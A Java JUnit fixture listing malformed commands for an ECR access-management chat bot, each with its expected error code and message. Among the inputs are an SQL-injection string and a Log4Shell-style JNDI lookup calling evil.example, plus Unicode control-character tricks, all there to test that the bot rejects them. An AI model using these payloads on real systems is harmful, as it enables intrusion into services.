package dev.ecrbot.command;

import static dev.ecrbot.problem.Code.ACCESS_UNKNOWN;
import static dev.ecrbot.problem.Code.COMMAND_MALFORMED;
import static dev.ecrbot.problem.Code.COMMAND_UNKNOWN;
import static dev.ecrbot.problem.Code.DURATION_MALFORMED;
import static dev.ecrbot.problem.Code.REPOSITORY_MALFORMED;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** What is mistyped of commands, kinds of access and reasons, the code of the answer, and what it says. */
final class SillyCommands {
    /** How most grants begin. */
    static final String GRANT = "grant pull payments/api ";

    private SillyCommands() {}

    static Stream<Arguments> commands() {
        return Stream.of(
                arguments("grnat pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("revok all payments/api sales", COMMAND_UNKNOWN, "Did you mean “revoke”?"),
                arguments("request", COMMAND_UNKNOWN, "Did you mean “requests”?"),
                arguments("allow pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("delete payments/api", COMMAND_UNKNOWN, "Did you mean “revoke”?"),
                arguments("pull payments/api sales", COMMAND_UNKNOWN, "Did you mean “grant pull”?"),
                arguments("approve 7K3F-92QD", COMMAND_UNKNOWN, "buttons on their card"),
                arguments("please", COMMAND_UNKNOWN, "The commands are grant, revoke"),
                arguments("<!channel>", COMMAND_UNKNOWN, "“@channel”"),
                arguments("🎉", COMMAND_UNKNOWN, "“🎉”"),
                arguments("'; DROP TABLE requests; --", COMMAND_UNKNOWN, "The commands are"),
                arguments("${jndi:ldap://evil.example/a}", COMMAND_UNKNOWN, "The commands are"),
                arguments("z".repeat(3999), COMMAND_UNKNOWN, "“" + "z".repeat(60) + "…”"),
                arguments("z".repeat(5000), COMMAND_MALFORMED, "has 5000 characters"),
                arguments("grant", COMMAND_MALFORMED, "The access"),
                arguments("grant because", COMMAND_MALFORMED, "no reason"),
                arguments("grant because I want to", COMMAND_MALFORMED, "The access"),
                arguments("grant pull", COMMAND_MALFORMED, "The repository is missing"),
                arguments("grant pull payments/api", COMMAND_MALFORMED, "The account"),
                arguments("grant pull payments/api for 7d", COMMAND_MALFORMED, "is missing"),
                arguments("revoke", COMMAND_MALFORMED, "push-only or all"),
                arguments("revoke all payments/api", COMMAND_MALFORMED, "/ecr revoke"),
                arguments("revoke pull payments/api sales for 7d", COMMAND_MALFORMED, "A revocation has no end"),
                arguments("revoke pull payments/api sales until 2026-12-31", COMMAND_MALFORMED, "“until”"),
                arguments(GRANT + "sales ci-deployer nightly build", COMMAND_MALFORMED, "“nightly build”"),
                arguments(GRANT + "sales ci-deployer nightly build", COMMAND_MALFORMED, "put “because” before it"),
                arguments("status", COMMAND_MALFORMED, "The repository is missing"),
                arguments("login", COMMAND_MALFORMED, "/ecr login payments/api"),
                arguments("requests some", COMMAND_MALFORMED, "mine, pending, for me, ending, all"),
                arguments("requests page two", COMMAND_MALFORMED, "page 2"),
                arguments("show payments/api", COMMAND_MALFORMED, "/ecr history"),
                arguments("who", COMMAND_MALFORMED, "access"),
                arguments("who pull", COMMAND_MALFORMED, "The repository is missing"),
                arguments("can sales", COMMAND_MALFORMED, "The access"),
                arguments("can sales ci-deployer all payments/api", ACCESS_UNKNOWN, "pull, push"),
                arguments("login payments/api for dokcer", COMMAND_MALFORMED, "Did you mean “docker”?"),
                arguments("login 999999999999.dkr.ecr.us-west-2.amazonaws.com", REPOSITORY_MALFORMED, "central"),
                arguments("whoami rita", COMMAND_MALFORMED, "doesn't take"),
                arguments("doctor who", COMMAND_MALFORMED, "doesn't take"),
                arguments("requests pendign", COMMAND_MALFORMED, "Did you mean “pending”?"),
                arguments("cancel", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("extend", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("extend payments/api for 7d", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("extend req-7k2m9xqa 30d", COMMAND_MALFORMED, "“extend” doesn't take “30d”"),
                arguments("extend req-7k2m9xqa for 7", DURATION_MALFORMED, "no unit"),
                arguments("extend req-7k2m9xqa until 2020-01-01", DURATION_MALFORMED, "in the past"),
                arguments("renew req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “extend”?"),
                arguments("undo", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("undo payments/api", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("undo req-7k2m9xqa wrong role", COMMAND_MALFORMED, "put “because” before it"),
                arguments("undo req-7k2m9xqa for 7d", COMMAND_MALFORMED, "no end of its own, so it can't take “for”"),
                arguments("undo req-7k2m9xqa until 2026-12-31 because", COMMAND_MALFORMED, "can't take “until”"),
                arguments("revert req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “undo”?"),
                arguments("udno req-7k2m9xqa", COMMAND_UNKNOWN, "Did you mean “undo”?"),
                arguments("end", COMMAND_MALFORMED, "The request's id is missing"),
                arguments("end payments/api", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("cancel #12", COMMAND_MALFORMED, "letters, digits and dashes"),
                arguments("cancel 1 2", COMMAND_MALFORMED, "doesn't take “2”"),
                arguments("help grnt", COMMAND_UNKNOWN, "Did you mean “grant”?"),
                arguments("help grant pull", COMMAND_MALFORMED, "doesn't take “pull”"));
    }

    static Stream<Arguments> accesses() {
        return Stream.of(
                arguments("grant pul payments/api sales", ACCESS_UNKNOWN, "Did you mean “pull”?"),
                arguments("grant push_only payments/api sales", ACCESS_UNKNOWN, "Did you mean “push-only”?"),
                arguments("grant write payments/api sales", ACCESS_UNKNOWN, "Did you mean “push”? It includes pull."),
                arguments("grant pull,push payments/api sales", ACCESS_UNKNOWN, "Did you mean “push”?"),
                arguments("grant all payments/api sales", ACCESS_UNKNOWN, "“all” can't be granted"),
                arguments("grant * payments/api sales", ACCESS_UNKNOWN, "“*” can't be granted"),
                arguments("grant ecr:* payments/api sales", ACCESS_UNKNOWN, "can't be granted"),
                arguments("grant ecr:SetRepositoryPolicy payments/api sales", ACCESS_UNKNOWN, "isn't a kind of access"),
                arguments("grant payments/api pull sales", ACCESS_UNKNOWN, "right after the command"),
                arguments(
                        "revoke everything payments/api sales", ACCESS_UNKNOWN, "pull, push, read, push-only or all"));
    }

    static Stream<Arguments> reasons() {
        return Stream.of(
                arguments(GRANT + "sales because", COMMAND_MALFORMED, "no reason after “because”"),
                arguments(GRANT + "sales because \u200B\n", COMMAND_MALFORMED, "no reason after “because”"),
                arguments(GRANT + "sales because " + "x".repeat(301), COMMAND_MALFORMED, "has 301 characters"),
                arguments("gr\u202Ean\u200Bt pull payments/api saels", COMMAND_MALFORMED, "RIGHT-TO-LEFT OVERRIDE"),
                arguments("grant\u0000pull\u0007payments/api\u001Bsaels", COMMAND_MALFORMED, "U+0000, NULL"));
    }
}
